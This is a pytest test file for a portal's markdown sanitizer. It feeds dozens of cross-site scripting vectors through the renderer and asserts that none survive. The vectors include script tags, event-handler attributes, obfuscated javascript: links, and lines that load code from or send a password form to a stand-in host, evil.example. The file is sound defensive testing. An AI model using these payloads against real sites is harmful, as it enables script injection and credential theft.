"""Text that people write becomes HTML in which nothing of theirs runs, loads or misleads."""

from html.parser import HTMLParser

import pytest
from django.template import Context, Template
from markdown_it import MarkdownIt

from portal import markdown

ALLOWED = {
    *("a", "blockquote", "br", "code", "em", "hr", "li", "ol", "p", "pre", "strong"),
    *("table", "tbody", "td", "th", "thead", "tr", "ul"),
}
REL = ("rel", "noopener noreferrer")

HTML_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg/onload=alert`1`>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://a.example' onclick='alert(1)' style='position:fixed' id=main>x</a>",
    "<p style='background:url(javascript:alert(1))' onmouseover=alert(1)>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<style>body{display:none}</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<h1>Another page</h1>",
    "<table class='fv-status' onclick=alert(1)><tr><td>x</td></tr></table>",
    "\x00<script\x00>alert(1)</script>",
    "<p>unclosed <b onfocus=alert(1) tabindex=0 autofocus",
]
MARKDOWN_VECTORS = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/sign-out/)",
    "[x](?next=x)",
    "[x](#main)",
    "[x](http:javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "[![x](data:image/svg+xml,<svg onload=alert(1)>)](javascript:alert(1))",
    '[x](https://a.example "title\\" onclick=alert(1) x=\\"")',
    "[x](https://a.example/'onmouseover='alert(1))",
    '[x](https://a.example/"onmouseover="alert(1))',
    '```js" onload="alert(1)\n<script>alert(1)</script>\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <svg onload=alert(1)> | b |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | 2 |",
    "# <script>alert(1)</script>",
    "> <iframe src=javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "[a](https://a.example)<b onclick=alert(1)>",
]


class Elements(HTMLParser):
    """(tag, attributes) of every element of a text, as a browser would begin them."""

    def __init__(self, text):
        super().__init__()
        self.found, self.other = [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))

    def handle_comment(self, data):
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def unsafe(text):
    """Every element and attribute of the HTML that nobody may write."""
    elements = Elements(text)
    wrong = list(elements.other)
    for tag, attributes in elements.found:
        if tag == "a":
            (name, address), *rest = attributes or [("", "")]
            safe = name == "href" and rest == [REL]
            safe = safe and address.startswith(("https://", "http://", "mailto:"))
        elif tag == "table":
            safe = attributes == [("class", "usa-table")]
        else:
            safe = tag in ALLOWED and attributes == []
        if not safe:
            wrong.append((tag, attributes))
    return wrong


@pytest.mark.parametrize("text", [*HTML_VECTORS, *MARKDOWN_VECTORS])
def test_nothing_of_the_writer_runs(text):
    assert unsafe(markdown.html(text)) == []


@pytest.mark.parametrize("text", [*HTML_VECTORS, *MARKDOWN_VECTORS])
def test_the_cleaner_alone_would_do(monkeypatch, text):
    """Were the parser to let HTML and addresses of any kind through, they went no further."""
    loose = MarkdownIt("commonmark", {"html": True}).enable("table")
    loose.validateLink = lambda address: True
    monkeypatch.setattr(markdown, "_parser", loose)
    left = [one for one in unsafe(markdown.html(text)) if one != ("a", [REL])]
    assert left == []


@pytest.mark.parametrize(
    "text", ["<p onclick=x>", "<script>", "<a href='javascript:x'>", "<!--x-->", "<a href='/x'>"]
)
def test_what_is_unsafe_is_found(text):
    assert unsafe(text) != []


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("", ""),
        ("One *two* **three**", "<p>One <em>two</em> <strong>three</strong></p>\n"),
        ("One\ntwo", "<p>One<br>\ntwo</p>\n"),
        ("# One\n\n###### Two", "<p><strong>One</strong></p>\n<p><strong>Two</strong></p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("> a\n\n---", "<blockquote>\n<p>a</p>\n</blockquote>\n<hr>\n"),
        ("`a<b`", "<p><code>a&lt;b</code></p>\n"),
        ("```py\na & b\n```", "<pre><code>a &amp; b\n</code></pre>\n"),
        (
            "[x](https://a.example/?b=1&c=2)",
            '<p><a href="https://a.example/?b=1&amp;c=2" rel="noopener noreferrer">x</a></p>\n',
        ),
        (
            "<who@agency.example>",
            '<p><a href="mailto:who@agency.example" rel="noopener noreferrer">'
            "who@agency.example</a></p>\n",
        ),
        (
            "![chart](https://a.example/b.png)",
            '<p>!<a href="https://a.example/b.png" rel="noopener noreferrer">chart</a></p>\n',
        ),
        ("[x](javascript:a)", "<p>[x](javascript:a)</p>\n"),
        ("<b>a</b>", "<p>&lt;b&gt;a&lt;/b&gt;</p>\n"),
        (
            "|a|b|\n|-|:-:|\n|1|2|",
            '<table class="usa-table">\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n'
            "<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>\n",
        ),
    ],
)
def test_text_is_formatted(text, html):
    assert markdown.html(text) == html


def test_a_template_prints_it_as_it_is():
    page = Template("{% load markdown %}{{ text|markdown }}{{ text }}")
    assert page.render(Context({"text": "*a* <b>"})) == "<p><em>a</em> &lt;b&gt;</p>\n*a* &lt;b&gt;"


def test_deep_nesting_ends():
    assert unsafe(markdown.html(">" * 5000 + "[" * 5000 + "*" * 5000)) == []


def test_a_short_text_claims_no_millions_of_cells():
    wide = "|a" * 200 + "\n" + "|-" * 200 + "\n" + "b\n" * 2000
    assert "<table" not in markdown.html(wide)
    assert len(markdown.html(wide)) < 10 * len(wide)
    assert "<table" in markdown.html("|a|b|\n|-|-|\n" + "|1|2|\n" * 500)
